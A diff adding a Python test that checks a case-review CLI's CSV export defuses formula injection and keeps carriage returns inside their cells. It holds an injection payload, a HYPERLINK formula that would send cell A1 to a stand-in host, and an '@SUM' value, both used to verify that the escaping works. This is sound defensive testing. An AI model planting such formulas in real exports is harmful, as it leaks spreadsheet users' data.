@@ -4,6 +4,8 @@ queue's filters; two reviewers acting on one case at once, with no lost update."
 
 from __future__ import annotations
 
+import csv as csv_module
+import io
 import itertools
 import threading
 from collections.abc import Callable
@@ -322,6 +324,37 @@ def test_escape_sequences_typed_into_a_case_are_shown_not_obeyed(tmp_path: Any) 
                                  "json").stdout)
     assert kept["assignee"] == "ann\x9b1m"
     assert [a["detail"].get("note") for a in kept["audit"]].count(note) == 1
+
+
+def test_text_that_starts_like_a_formula_is_not_a_formula_in_csv(tmp_path: Any) -> None:
+    """CSV is opened in a spreadsheet. An assignee or actor typed as ``=HYPERLINK(...)``
+    or ``@SUM(...)`` was written as it was, and ran as a formula on the reviewer's
+    machine; such a cell starts with a ``'`` now. A carriage return in a note went out
+    unquoted and split its row in two. JSON still gives back exactly what was typed."""
+    url = f"sqlite:///{tmp_path}/cases.sqlite"
+    engine = open_ledger(url)
+    post_many(engine, hands())
+    open_cases(engine, hands(), [sweetheart("P12")], at=AT)
+    engine.dispose()
+    case = str(orjson.loads(pitwatch("cases", "list", "--db", url, "--format",
+                                     "json").stdout)[0]["case"])
+    formula = '=HYPERLINK("http://x.test/?"&A1,"open")'
+    assert pitwatch("cases", "note", case, "one\rtwo", "--actor", "@SUM(A1)",
+                    "--db", url).code == 0
+    assert pitwatch("cases", "assign", case, formula, "--actor", "sup", "--db", url).code == 0
+    shown = pitwatch("cases", "show", case, "--db", url, "--format", "csv")
+    listed = pitwatch("cases", "list", "--db", url, "--format", "csv")
+    assert shown.code == 0 and listed.code == 0, shown.stderr + listed.stderr
+    rows = [row for ran in (shown, listed)
+            for row in csv_module.reader(io.StringIO(ran.stdout, newline=""))]
+    cells = [cell for row in rows for cell in row]
+    assert "'@SUM(A1)" in cells and "'" + formula in cells
+    assert not any(cell.startswith(("=", "@")) for cell in cells), cells
+    assert "note: one\rtwo" in cells  # one cell: its row is whole
+    kept = orjson.loads(pitwatch("cases", "show", case, "--db", url, "--format",
+                                 "json").stdout)
+    assert kept["assignee"] == formula
+    assert [a["actor"] for a in kept["audit"]].count("@SUM(A1)") == 1
 
 
 def test_the_queue_command_takes_every_filter_and_format(tmp_path: Any) -> None:
